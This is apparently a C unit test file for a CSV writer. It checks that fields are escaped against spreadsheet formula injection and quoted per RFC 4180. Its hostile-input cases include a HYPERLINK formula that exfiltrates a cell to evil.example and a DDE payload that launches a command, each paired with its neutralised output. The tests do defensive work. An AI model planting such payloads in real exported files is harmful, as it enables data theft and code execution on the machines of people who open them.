/* See LICENSE. test_csv.c: CSV fields against formula injection (OWASP) while staying RFC 4180. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "core/csv.h"
#include "core/strbuf.h"

struct field_case {
	const char	*in;
	const char	*out;	/* the field with its "," separator */
};

static void
check(void (*put)(struct strbuf *, const char *, bool), const struct field_case *t, size_t n)
{
	struct strbuf sb = STRBUF_INIT;
	size_t i;

	for (i = 0; i < n; i++) {
		strbuf_reset(&sb);
		put(&sb, t[i].in, false);
		if (strcmp(strbuf_str(&sb), t[i].out) != 0)
			fail_msg("case %zu: [%s] gave [%s], want [%s]", i, t[i].in ? t[i].in : "(null)",
			    strbuf_str(&sb), t[i].out);
	}
	strbuf_release(&sb);
}

static void
test_text_hostile(void **state)
{
	static const struct field_case t[] = {
		{ "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
		  "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"," },
		{ "=1+1", "'=1+1," },
		{ "+1", "'+1," },
		{ "-2+3", "'-2+3," },
		{ "@SUM(A1)", "'@SUM(A1)," },
		{ "\t=1", "'\t=1," },
		{ "\r=1", "\"'\r=1\"," },
		{ "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0," },
		{ "-5.00", "'-5.00," },			/* text that looks like a number is still text */
		{ "=a;b", "\"'=a;b\"," },
	};

	check(csv_text, t, sizeof t / sizeof t[0]);
}

static void
test_text_quoting(void **state)
{
	static const struct field_case t[] = {
		{ "café", "café," },
		{ "", "," },
		{ NULL, "," },
		{ "Cena \"La Tasca\", centro", "\"Cena \"\"La Tasca\"\", centro\"," },
		{ "a,b", "\"a,b\"," },
		{ "Bus\nnocturno", "\"Bus\nnocturno\"," },
		{ "line\r\nbreak", "\"line\r\nbreak\"," },
		{ "\"", "\"\"\"\"," },
		{ "uno;=1+1", "\"uno;=1+1\"," },	/* one cell in a ";" locale too */
		{ "1+1=2", "1+1=2," },			/* only the first character matters */
		{ " =1", " =1," },
		{ "'=1", "'=1," },
		{ "2026-11-28", "2026-11-28," },
	};

	check(csv_text, t, sizeof t / sizeof t[0]);
}

static void
test_num(void **state)
{
	static const struct field_case t[] = {
		{ "-12.50", "-12.50," }, { "12.50", "12.50," }, { "0", "0," }, { "-0.05", "-0.05," },
		{ "7", "7," },
		/* Not a plain number: written as text, so neutralised. */
		{ "-1+2", "'-1+2," }, { "=1", "'=1," }, { "+1", "'+1," }, { "-", "'-," }, { "1.", "1.," },
		{ "1e3", "1e3," }, { "-.5", "'-.5," }, { "", "," }, { NULL, "," },
	};

	check(csv_num, t, sizeof t / sizeof t[0]);
}

static void
test_record(void **state)
{
	struct strbuf sb = STRBUF_INIT;

	csv_text(&sb, "2026-11-28", false);
	csv_num(&sb, "-3.10", false);
	csv_text(&sb, "=1+1", false);
	csv_text(&sb, "a \"b\", c", true);
	csv_text(&sb, "@x", true);
	assert_string_equal(strbuf_str(&sb), "2026-11-28,-3.10,'=1+1,\"a \"\"b\"\", c\"\r\n'@x\r\n");
	strbuf_release(&sb);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_text_hostile),
		cmocka_unit_test(test_text_quoting),
		cmocka_unit_test(test_num),
		cmocka_unit_test(test_record),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
